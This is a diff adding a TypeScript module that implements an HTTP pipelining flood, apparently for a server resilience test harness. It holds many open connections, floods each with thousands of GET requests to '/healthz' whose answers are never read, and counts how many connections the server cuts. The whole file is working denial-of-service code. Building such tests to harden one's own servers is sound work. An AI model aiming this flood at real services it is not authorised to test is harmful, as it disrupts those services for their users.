@@ -1,0 +1,34 @@
+/** Requests without end on few connections, whose answers nobody reads: each chunk is parsed into some 1,800 of them. */
+import type { Socket } from 'node:net'
+import { type Attack, get, open, repeat } from './client.ts'
+
+export interface PipeliningAttack extends Attack {
+  /** Default: `/healthz`, which is open to everybody. */
+  readonly path?: string
+  /** Kept open at once; a connection that is cut is replaced. Default: 64. */
+  readonly connections?: number
+  /** Sent at once on each connection, and on all of them in the same moment. Default: 64 KiB. */
+  readonly bytes?: number
+}
+
+/** @returns how many of its connections were cut. */
+export async function pipelining(attack: PipeliningAttack): Promise<number> {
+  const { path = '/healthz', connections = 64, bytes = 65_536 } = attack
+  const request = get(path)
+  const flood = Buffer.from(request.repeat(Math.ceil(bytes / request.length)))
+  const sockets = new Set<Socket>()
+  let cut = 0
+  await repeat(attack, 200, () => {
+    for (const socket of sockets) if (socket.bytesWritten === 0) socket.write(flood)
+    while (sockets.size < connections) {
+      const socket = open(attack, '').pause()
+      sockets.add(socket)
+      socket.once('close', () => {
+        cut++
+        sockets.delete(socket)
+      })
+    }
+  })
+  for (const socket of sockets) socket.removeAllListeners('close').destroy()
+  return cut
+}
